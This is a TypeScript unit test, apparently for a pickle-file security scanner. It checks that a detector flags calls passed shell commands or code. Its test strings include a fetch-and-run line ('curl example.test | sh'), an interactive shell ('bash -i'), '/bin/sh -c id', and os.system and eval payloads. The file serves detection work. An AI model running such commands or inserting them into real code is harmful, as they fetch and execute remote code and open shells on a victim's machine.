import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { PickleImport } from '../../formats/facts.ts';
import { isGivenCommand } from './importWords.ts';

const call = (text: string): PickleImport => {
  const known = { module: 'm', name: 'f', opcode: 'GLOBAL', offset: 0, state: 'constant', stream: 0 } as const;
  return { ...known, called: true, call: `m.f${text}` };
};

describe('a call of something that is on no list', () => {
  it('is given a command or code', () => {
    for (const text of [
      "('echo probe')",
      "(1, 'curl example.test | sh')",
      "(['/bin/sh', '-c', 'id'])",
      "('whoami')",
      "('touch /tmp/x')",
      "('import os; os.system(1)')",
      "('__import__(\\'os\\')')",
      "('x; bash -i')",
      "('eval(compile(x))')",
    ]) {
      assert.ok(isGivenCommand(call(text)), text);
    }
  });

  it('is given words, names and paths', () => {
    for (const text of [
      "('adam')",
      "('/data/train.csv')",
      "('identity', 'cataract')",
      "('https://example.test')",
      '(1, 2)',
      "('open source')".replace('open ', 'the '),
    ]) {
      assert.ok(!isGivenCommand(call(text)), text);
    }
    assert.ok(!isGivenCommand({ ...call("('whoami')"), called: false }));
  });
});
